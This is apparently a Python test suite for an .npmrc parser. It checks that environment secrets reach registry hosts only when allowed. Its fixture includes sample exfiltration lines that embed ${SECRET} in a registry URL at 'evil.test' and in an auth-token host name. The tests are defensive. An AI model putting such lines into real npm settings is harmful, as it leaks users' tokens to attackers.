"""npm's settings files, against npm's own reader where there is one."""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from devenv.fetch.endpoints import Endpoints
from devenv.fetch.npmrc import expand, npm_root, parse_npmrc, telling_settings


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a=b", {"a": "b"}),
        ("  a = b  ", {"a": "b"}),
        ("a = b ; comment", {"a": "b"}),
        ("a = b\\;c\\#d # comment", {"a": "b;c#d"}),
        ("; a=b\n# c=d\n\n", {}),
        ('a = "b ; c"', {"a": "b ; c"}),
        ("a = 'b # c'", {"a": "b # c"}),
        ("a", {"a": True}),
        ("a=true\nb=false\nc=null", {"a": True, "b": False, "c": None}),
        ("a[]=1\na[]=2", {"a": ["1", "2"]}),
        ("a=1\na[]=2", {"a": ["1", "2"]}),
        ("a=1\na=2", {"a": "2"}),
        ("[section]\na=1", {}),
        ("a=1\r\nb=2\r\n", {"a": "1", "b": "2"}),
        ("//h.test/:_authToken=x=y==", {"//h.test/:_authToken": "x=y=="}),
        ("=x", {}),
        ("a=${HOME}/x", {"a": "/h/x"}),
        ("a=${NOPE}", {"a": "${NOPE}"}),
        ("a=${NOPE?}", {"a": ""}),
        ("${HOME}=1", {"/h": "1"}),
    ],
)
def test_lines_mean_what_npm_says(text: str, expected: dict[str, object]) -> None:
    assert parse_npmrc(text, {"HOME": "/h"}) == expected


@given(st.text(st.sampled_from("ab=[]\"'\\;# \t\n\r${}?true:/\x00é")))
def test_every_text_is_readable(text: str) -> None:
    for key in parse_npmrc(text, {"a": "b"}):
        assert key == key.strip() or '"' in text or "'" in text or "$" in text


@given(st.text(), st.dictionaries(st.text(), st.text()))
def test_text_without_variables_stays(text: str, environ: dict[str, str]) -> None:
    plain = text.replace("$", "")
    assert expand(plain, environ) == plain


INI = os.path.join(npm_root(os.environ) or "/nowhere", "node_modules/ini")


@pytest.mark.skipif(not os.path.isdir(INI) or shutil.which("node") is None, reason="no npm to compare with")
def test_npms_reader_agrees() -> None:
    # Seeded, not hypothesis: one start of node for all texts.
    seeded = random.Random(7)
    texts = ["".join(seeded.choices("ab= \"'\\;#[]/:x\n", k=seeded.randrange(20))) for _ in range(4000)]
    program = (
        f"const ini = require({json.dumps(INI)});"
        "const texts = JSON.parse(require('fs').readFileSync(0));"
        "console.log(JSON.stringify(texts.map(text => ini.parse(text))))"
    )
    done = subprocess.run(
        ["node", "-e", program], input=json.dumps(texts), capture_output=True, text=True, check=True
    )
    compared = 0
    for text, expected in zip(texts, json.loads(done.stdout), strict=True):
        # Sections have no meaning in .npmrc.
        if not any(isinstance(value, dict) for value in expected.values()):
            assert parse_npmrc(text, {}) == expected, repr(text)
            compared += 1
    assert compared > 3000


PROJECT = """\
registry=https://named.test/
//named.test/:_authToken=${SECRET}
//mine.test/:_authToken=${SECRET}
//literal.test/:_authToken=written-down
//${SECRET}.test/:_authToken=x
@scope:registry=https://evil.test/${SECRET}/
cafile=${HOME}/ca.pem
"""


@pytest.mark.parametrize("allowed", [False, True])
def test_variables_go_to_hosts_of_the_project_only_when_allowed(tmp_path: Path, allowed: bool) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    for folder in (home, project):
        folder.mkdir()
    (home / ".npmrc").write_text("@mine:registry=https://mine.test/\n")
    (project / ".npmrc").write_text(PROJECT)
    (project / "package.json").write_text("{}")
    environ = {"HOME": str(home), "PATH": "", "SECRET": "sesame"}
    endpoints = Endpoints.load(
        project=str(project),
        environ=environ,
        registries={},
        cache=str(tmp_path),
        may_tell=lambda key, value: allowed,
    )
    found = {
        host: endpoints.credentials(f"https://{host}/x/-/x.tgz")
        for host in ("named.test", "mine.test", "literal.test", "sesame.test")
    }
    secret = {"Authorization": "Bearer sesame"}
    assert found["mine.test"] == secret, "the user's own registry has it anyhow"
    assert found["literal.test"] == {"Authorization": "Bearer written-down"}
    assert found["named.test"] == (secret if allowed else {})
    assert found["sesame.test"] == ({"Authorization": "Bearer x"} if allowed else {})
    assert endpoints.npm.settings.text("@scope:registry") == (
        "https://evil.test/sesame/" if allowed else None
    )
    assert endpoints.npm.settings.text("cafile") == f"{home}/ca.pem", (
        "what stays on this machine is as npm has it"
    )


def test_settings_that_tell_are_listed_as_they_stand() -> None:
    found = telling_settings(PROJECT)
    assert [key for key, _ in found] == [
        "//named.test/:_authToken",
        "//mine.test/:_authToken",
        "//${SECRET}.test/:_authToken",
        "@scope:registry",
    ]
    assert found[0][1] == "${SECRET}"
